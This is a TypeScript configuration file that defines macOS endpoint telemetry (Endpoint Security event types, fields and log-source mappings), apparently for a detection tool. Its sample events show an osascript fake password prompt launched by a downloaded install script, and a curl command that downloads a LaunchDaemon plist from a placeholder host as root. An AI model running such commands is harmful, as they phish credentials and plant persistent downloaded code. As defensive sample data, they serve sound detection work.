import type { Telemetry } from './types.js'

const actor =
  'UtcTime:date ProcessId:integer Image:path User CommandLine ParentImage:path ParentCommandLine ParentProcessId:integer'

export const macos: Telemetry = {
  sources: [
    {
      key: 'macos',
      anyLog: true,
      product: 'macos',
      provider: 'macOS endpoint (Endpoint Security / EDR)',
      label: 'macOS endpoint',
      channel: 'endpoint telemetry',
      log: 'macOS endpoint telemetry',
      logVerified: false,
      fields: actor,
      // Agents differ in what they add to the notification of the system.
      open: true,
      events: `
        NOTIFY_EXEC   | Process creation  | CurrentDirectory:path Hashes:hash SigningId TeamId OriginalFileName
        NOTIFY_FORK   | Process fork      |
        NOTIFY_EXIT   | Process exit      |
        NOTIFY_CREATE | File creation     | TargetFilename:path
        NOTIFY_WRITE  | File modification | TargetFilename:path
        NOTIFY_RENAME | File rename       | SourceFilename:path TargetFilename:path
        NOTIFY_UNLINK | File deletion     | TargetFilename:path
      `,
      samples: {
        NOTIFY_EXEC: {
          UtcTime: '2025-03-11 09:24:17.318',
          ProcessId: '8821',
          Image: '/usr/bin/osascript',
          CommandLine: 'osascript -e \'display dialog "Enter your password" default answer "" with hidden answer\'',
          CurrentDirectory: '/Users/areyes',
          User: 'areyes',
          ParentProcessId: '8790',
          ParentImage: '/bin/zsh',
          ParentCommandLine: '/bin/zsh /Users/areyes/Downloads/install.sh',
        },
        NOTIFY_CREATE: {
          UtcTime: '2025-03-11 09:24:17.318',
          ProcessId: '8821',
          Image: '/usr/bin/curl',
          CommandLine: 'curl -o /Library/LaunchDaemons/com.example.helper.plist https://files.example.net/p',
          User: 'root',
          ParentImage: '/bin/sh',
          TargetFilename: '/Library/LaunchDaemons/com.example.helper.plist',
        },
      },
    },
  ],
  logSources: [
    { product: 'macos', primary: ['macos'] },
    { product: 'macos', category: 'process_creation', primary: ['macos/notify_exec'] },
    {
      product: 'macos',
      category: 'file_event',
      primary: ['macos/notify_create'],
      alternatives: ['macos/notify_write', 'macos/notify_rename'],
    },
  ],
}
